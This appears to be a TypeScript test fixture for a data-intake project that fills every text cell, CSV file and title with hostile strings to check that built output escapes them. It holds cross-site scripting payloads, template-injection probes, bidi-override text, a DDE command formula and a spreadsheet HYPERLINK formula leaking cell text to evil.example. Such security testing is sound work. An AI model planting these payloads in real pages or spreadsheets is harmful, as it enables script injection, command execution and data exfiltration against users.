import { createHash } from 'node:crypto';
import Papa from 'papaparse';
import type { CheckedData } from '../../../src/intake/read-data.ts';
import type { Column } from '../../../src/intake/table.ts';
import type { TableFile } from '../../../src/intake/table-file.ts';
import { allTables } from '../../../src/intake/tables/index.ts';

/** What stands in every element or attribute that a payload would make, to be looked for in what was built. */
export const mark = 'data-pwned';

/** The global that a payload sets when it runs. */
export const flag = 'pwned';

/** Texts that do harm where something puts them into a page, a file or a spreadsheet as they are. */
const payloads: readonly ((text: string) => string)[] = [
  (text) => `${text} </script><script ${mark}>window.${flag}=1</script>`,
  (text) => `${text} "><svg ${mark} onload=window.${flag}=2>`,
  (text) => `=HYPERLINK("http://evil.example/?x=";"${text}")`,
  (text) => `\u202e${text}\u202d\u200f`,
  (text) => `${text} ' ${mark}='' onmouseover='window.${flag}=3`,
  (text) => `${text} ]]><img ${mark} src=x onerror=window.${flag}=4><![CDATA[`,
  (text) => `${text} <!-- --> &lt;img ${mark} src=x onerror=window.${flag}=5&gt; \${7*7} {{7*7}}`,
  (text) => `${text} </textarea></title></style><iframe ${mark} srcdoc="<script>parent.${flag}=6</script>">`,
  (text) => `+1+cmd|' /C calc'!A0 ${text}`,
];

/** How long a name can get when nobody checks. */
const longName = 2000;

/** Every how many texts one is made that long. */
const everyLong = 41;

const tables = new Map(allTables.map((table) => [table.name, table]));

/**
 * Checked data with a hostile text in every cell and title that holds text, as if the intake had let it through. Which
 * payload a text gets follows from the text itself, so that the same name is the same everywhere.
 */
export function poisoned(data: CheckedData): CheckedData {
  const all = allTables.flatMap((table) => table.columns);
  // A name that holds a reference in another table is left alone: rows do not say of which table they are.
  const references = new Set(all.filter((column) => !isText(column)).map(({ name }) => name));
  const columns = new Set(all.map(({ name }) => name).filter((name) => !references.has(name)));
  const walk = (value: unknown, key: string): unknown => {
    if (isTableFile(value)) return poisonedFile(value);
    if (Array.isArray(value)) return value.map((one) => walk(one, key));
    if (value instanceof Map) return new Map([...value].map(([name, one]) => [name, walk(one, key)]));
    if (typeof value === 'string') return columns.has(key) || ofDescriptors.has(key) ? poison(value) : value;
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([name, one]) => [name, isDefinition(name) ? one : walk(one, name)]),
    );
  };
  return walk(data, '') as CheckedData;
}

/** Texts of `series.json` and `datapackage.json`. */
const ofDescriptors: ReadonlySet<string> = new Set(['vi', 'en', 'title']);

/** The definitions of tables are the project's own, and the lock holds nothing but hashes. */
function isDefinition(name: string): boolean {
  return name === 'table' || name === 'lock' || name === 'seal';
}

/** In `corrections.csv`: names of tables, rows and columns, which are looked up, and cells, which are read as their columns say. */
const lookedUp: ReadonlySet<string> = new Set(['table', 'row', 'column', 'old', 'new']);

function isText({ kind, name }: Column): boolean {
  return kind === 'text' && !lookedUp.has(name);
}

function isTableFile(value: unknown): value is TableFile {
  return (
    typeof value === 'object' && value !== null && 'table' in value && 'sha256' in value && 'text' in value
  );
}

function poisonedFile(file: TableFile): TableFile {
  const { columns } = tables.get(file.table.name)!;
  const [head, ...body] = Papa.parse<string[]>(file.text.trimEnd()).data;
  const cells = body.map((row) =>
    row.map((cell, index) => (isText(columns[index]!) ? poisonCell(cell, columns[index]!) : cell)),
  );
  const text = `${Papa.unparse([head!, ...cells], { newline: '\n' })}\n`;
  const rows = file.rows.map((row) =>
    Object.fromEntries(
      Object.entries(row).map(([name, value]) => {
        const column = columns.find((one) => one.name === name);
        return [name, column && isText(column) ? poisonValue(value) : value];
      }),
    ),
  );
  const raw = Buffer.from(text);
  return { ...file, text, rows, bytes: raw.length, sha256: createHash('sha256').update(raw).digest('hex') };
}

function poisonCell(cell: string, { list }: Column): string {
  if (cell === '') return cell;
  return list ? cell.split(';').map(poison).join(';') : poison(cell);
}

function poisonValue(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(poisonValue);
  return typeof value === 'string' ? poison(value) : value;
}

/** The same text always becomes the same. */
function poison(text: string): string {
  const [first, second] = createHash('sha256').update(text).digest();
  const hostile = payloads[first! % payloads.length]!(text);
  return second! % everyLong === 0 ? hostile.padEnd(longName, ' dài') : hostile;
}
